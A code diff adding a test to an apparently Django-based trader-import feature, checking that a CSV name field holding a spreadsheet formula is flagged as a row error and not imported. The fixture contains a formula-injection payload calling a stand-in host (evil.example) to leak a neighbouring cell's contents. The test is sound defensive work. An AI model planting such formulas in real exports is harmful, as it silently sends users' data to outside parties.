@@ -200,3 +200,23 @@ def test_admin_lists_imports_read_only(client, roles, market, vocabulary):
     assert listing.status_code == 200
     assert "a.csv" in listing.text
     assert client.get(reverse("admin:traders_traderimport_add")).status_code == 403
+
+
+def test_a_formula_in_a_trader_list_is_a_row_error_on_the_report_and_never_imported(
+    operator_client, market, vocabulary
+):
+    """The issue's row: ``=HYPERLINK(...)`` as a name was accepted and reached the dinas exports as a formula."""
+    evil = b'=HYPERLINK("http://evil.example/?leak="&B2,"Klik")'
+    data = b"Nama;No HP;Blok;Los;Nomor;Kategori\n" + evil + b";0812-1000-0001;A;1;1;sayur\n"
+    data += b"Euis;+62 812 1000 0002;-;1;2;sayur\n"  # a +62 phone and "-" for no block are fine
+    response = operator_client.post(url("import-upload", market), {"file": SimpleUploadedFile("data.csv", data)})
+    trader_import = TraderImport.objects.get()
+
+    report = operator_client.get(response.url)
+    assert 'id="ok-count">1<' in report.text
+    assert 'id="error-count">1<' in report.text
+    assert "starts with =, so a spreadsheet would run it as a formula: remove the sign." in report.text
+
+    operator_client.post(url("import-confirm", market, pk=trader_import.pk), {"consent": "on"})
+    assert not User.objects.filter(name__startswith="=").exists()
+    assert User.objects.filter(phone="+6281210000002").exists()
